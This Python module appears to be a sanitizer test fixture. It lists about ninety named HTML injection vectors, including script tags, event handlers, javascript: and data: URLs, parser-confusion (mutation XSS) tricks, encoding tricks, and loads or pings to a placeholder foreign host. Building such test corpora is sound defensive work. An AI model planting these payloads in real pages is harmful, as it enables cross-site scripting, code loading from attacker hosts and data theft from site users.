"""Markup that runs something, sends something away or asks another site: every vector of its own kind.

``RUN`` is the call that tells of it; ``{foreign}`` stands for an address at another site.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "ran()"
_IMG: Final = f"<img src=x onerror={RUN}>"

VECTORS: Final[dict[str, str]] = {
    "script": f"<script>{RUN}</script>",
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "script by address": "<script src={foreign}/s.js></script>",
    "style in a drawing": f"<svg><style>{_IMG}</style></svg>",
    "style in a formula": f"<math><style>{_IMG}</style></math>",
    "style in a drawing, ended": f"<svg></p><style><a title='</style>{_IMG}'>",
    "formula, table, glyph, style": (f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>"),
    "formula, form in a form": (f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}"),
    "formula as html": f"<math><annotation-xml encoding=text/html><style>{_IMG}</style></annotation-xml></math>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    "title in a drawing": f"<svg><title><style>{_IMG}</style></title></svg>",
    "desc in a drawing": f"<svg><desc><noscript><a title='</noscript>{_IMG}'></noscript></desc></svg>",
    "animated address": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>click</text></a></svg>",
    "set address": f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=20>click</text></a></svg>",
    "animation that begins": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "drawing that loads": f"<svg onload={RUN}></svg>",
    "use of data": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='1' onerror='{RUN}' /></svg>#x\" /></svg>"
    ),
    "frame of data": f'<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
    "frame of script": f"<iframe src=javascript:parent.{RUN}></iframe>",
    "frame of a site": "<iframe src={foreign}/f></iframe>",
    "frame of a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object of data": f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    "object of a site": "<object data={foreign}/o></object>",
    "embed of data": f'<embed src="data:text/html,<script>parent.{RUN}</script>">',
    "embed of a site": "<embed src={foreign}/e>",
    "embed of script": f"<embed src=javascript:{RUN}>",
    "applet": "<applet code=x codebase={foreign}/a></applet>",
    "refresh": "<meta http-equiv=refresh content='0;url={foreign}/r'>",
    "refresh to a script": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "refresh to data": f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "base": "<base href={foreign}/><link rel=stylesheet href=b.css>",
    "base of script": f"<base href=javascript:/><a href=%0a{RUN}>click</a>",
    "sheet": "<link rel=stylesheet href={foreign}/l.css>",
    "sheet of another kind": "<link rel='alternate STYLESHEET' title=x href={foreign}/a.css>",
    "preload": "<link rel=preload as=script href={foreign}/p.js><link rel=modulepreload href={foreign}/m.js>",
    "prefetch": "<link rel=prefetch href={foreign}/pf><link rel=prerender href={foreign}/pr>",
    "manifest": "<link rel=manifest href={foreign}/m.json>",
    "import": "<style>@import '{foreign}/i.css';p{{}}</style>",
    "import, escaped": "<style>@\\69mport url({foreign}/i2.css);p{{}}</style>",
    "import after a comment": "<style>/*x*/@import/**/url({foreign}/i3.css);p{{}}</style>",
    "import in a drawing": "<svg><style>&commat;import '{foreign}/i4.css';</style></svg>",
    "font": "<style>@font-face{{font-family:z;src:url({foreign}/z.woff)}}p,div,body{{font-family:z}}</style>",
    "font, escaped": "<style>@f\\6fnt-face{{font-family:y;src:url({foreign}/y.woff)}}body{{font-family:y}}</style>",
    "expression": f"<p style='width:expression({RUN})'>x</p>",
    "script in a style": f"<div style='background:url(javascript:{RUN})'>x</div>",
    "link": f"<a href=javascript:{RUN}>click</a>",
    "link with signs": f"<a href='&#1;&#x20;java&#10;s&#9;cript&colon;{RUN}'>click</a>",
    "link with capitals": f"<a href='JaVaScRiPt:{RUN}'>click</a>",
    "link to data": f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    "link with a ping": "<a href='#x' ping={foreign}/ping>click</a>",
    "link in a drawing": f"<svg><a xlink:href=javascript:{RUN}><text y=20>click</text></a></svg>",
    "link in a formula": f"<math href=javascript:{RUN}><mtext>click</mtext></math>",
    "area": f"<map name=m><area href=javascript:{RUN} shape=default></map><img usemap=#m>",
    "button's action": f"<form><button formaction=javascript:{RUN}>click</button></form>",
    "form's action": f"<form action=javascript:{RUN}><button>click</button></form>",
    "form to another site": "<form action={foreign}/form><button>click</button></form>",
    "button from outside": "<form id=f></form><button form=f formaction={foreign}/fa>click</button>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "toggle": f"<details open ontoggle={RUN}><summary>a</summary>b</details>",
    "media": f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "media of a site": "<video src={foreign}/v.mp4 autoplay></video><video><source src={foreign}/w.mp4></video>",
    "track": "<video><track default src={foreign}/t.vtt></video>",
    "marquee": f"<marquee onstart={RUN}>m</marquee>",
    "picture": _IMG,
    "attribute without blanks": f"<svg/onload={RUN}>",
    "attribute with a slash": f"<p a/onmouseover={RUN} style=display:block>click</p>",
    "attribute with a brace": f"<p {{a={RUN} {{}}b=2>click</p>",
    "attribute with a quote": f'<img ""onerror={RUN} src=x>',
    "noscript": f'<noscript><p title="</noscript>{_IMG}"></noscript>',
    "noscript at the head": f"<head><noscript><style></noscript>{_IMG}</style></noscript>",
    "plain text": f"<div title='</plaintext>{_IMG}'><plaintext>{_IMG}",
    "xmp": f'<xmp><p title="</xmp>{_IMG}"></xmp>',
    "noembed": f'<noembed><p title="</noembed>{_IMG}"></noembed>',
    "noframes": f'<noframes><p title="</noframes>{_IMG}"></noframes>',
    "text area": f'<textarea><p title="</textarea>{_IMG}"></textarea>',
    "title": f'<title><p title="</title>{_IMG}"></title>',
    "select": f"<select><style></select>{_IMG}</style></select>",
    "template": f"<template><script>{RUN}</script>{_IMG}</template>",
    "shadow": f"<div><template shadowrootmode=open>{_IMG}<script>{RUN}</script></template></div>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment, ended oddly": f"<!-- --!><img src=x onerror={RUN}> -->",
    "comment in a drawing": f"<svg><!--</svg>{_IMG}-->",
    "cdata": f"<svg><![CDATA[</svg>{_IMG}]]></svg>",
    "instruction": f"<?xml-stylesheet href={{foreign}}/x.xsl ?><?a >{_IMG}?>",
    "escape to another alphabet": f"\x1b(J<p title='\\'>\x1b$B</p><p title='\x1b(B{_IMG}'>",
    "encoding": f"<meta charset=iso-2022-jp><p title='\x1b$B'>\x1b(B<p title='{_IMG}'>",
    "encoding that hides tags": f"<meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "control characters": f"<p title='&#1;&#xFFFE;'>&#1;&#xFFFE;&#x1b;{_IMG}</p>",
    "name with a reference": f"<a<b onclick={RUN}>click</a<b>",
    "image that is none": f"<image src=x onerror={RUN}>",
    "frame set": "<frameset><frame src={foreign}/fs></frameset>",
    "body that loads": f"<body onload={RUN} onpageshow={RUN}>",
    "popover": f"<button popovertarget=q>click</button><div popover id=q onbeforetoggle={RUN}>p</div>",
}
"""By the name of its kind."""


def page_with_all(foreign: str) -> str:
    """One page with each of them: what swallows the rest stands alone elsewhere."""
    alone = {
        "plain text",
        "noscript at the head",
        "frame set",
        "escape to another alphabet",
        "encoding",
        "comment in a drawing",
    }
    return "\n".join(vector_with(name, foreign) for name in VECTORS if name not in alone)


def vector_with(name: str, foreign: str) -> str:
    """The markup of one."""
    return VECTORS[name].replace("{foreign}", foreign).replace("{{", "{").replace("}}", "}")
